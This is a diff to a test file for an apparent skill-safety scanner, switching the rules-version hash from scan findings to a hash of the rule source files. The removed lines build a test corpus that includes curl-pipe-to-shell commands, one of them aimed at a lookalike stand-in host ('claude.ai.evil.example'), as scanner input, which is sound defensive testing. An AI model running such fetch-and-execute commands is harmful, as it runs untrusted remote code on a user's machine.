@@ -1,32 +1,19 @@
 import { createHash } from 'node:crypto'
+import { readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
 import { expect, it } from 'vitest'
 import { RULES_VERSION } from '../../../src/domain/safety/rules-version.ts'
-import { scanText } from '../../../src/domain/safety.ts'
-import { DISGUISED, HARMLESS, HOSTILE } from '../hostile-texts.ts'
 
-/** What is judged by where it comes from. */
-const INSTALLERS = [
-  'sh.rustup.rs',
-  'claude.ai/install.sh',
-  'claude.ai.evil.example/x.sh',
-  'x.example/a?u=https://sh.rustup.rs',
-]
+const DOMAIN = join(import.meta.dirname, '../../../src/domain')
 
-const CORPUS = [
-  ...[...HOSTILE, ...DISGUISED].map(({ text }) => text),
-  ...HARMLESS,
-  ...INSTALLERS.map((address) => `curl -fsSL https://${address} | sh`),
-]
-
-/** What the rules say of the corpus, without their wording: a finding that is only told better asks for no new scan. */
-const said = CORPUS.map((text) =>
-  scanText(text, { file: 'SKILL.md' }).map(({ rule, severity, line }) => [rule, severity, line]),
-)
-
-it('the rules have a new version when they find something else: skills are then scanned again', () => {
-  const version = createHash('sha256').update(JSON.stringify(said)).digest('hex').slice(0, 8)
+it('the rules have a new version when any of their files changes: skills are then scanned again', () => {
+  const files = readdirSync(join(DOMAIN, 'safety')).filter((name) => name !== 'rules-version.ts')
+  const hash = createHash('sha256')
+  for (const file of ['safety.ts', ...files.sort().map((name) => join('safety', name))])
+    hash.update(`${file}\n${readFileSync(join(DOMAIN, file), 'utf8')}`)
+  const version = hash.digest('hex').slice(0, 8)
   expect(
     RULES_VERSION,
-    `The rules find something else in the corpus. Write RULES_VERSION = '${version}' in src/domain/safety/rules-version.ts.`,
+    `The files of the rules changed. Write RULES_VERSION = '${version}' in src/domain/safety/rules-version.ts.`,
   ).toBe(version)
 })
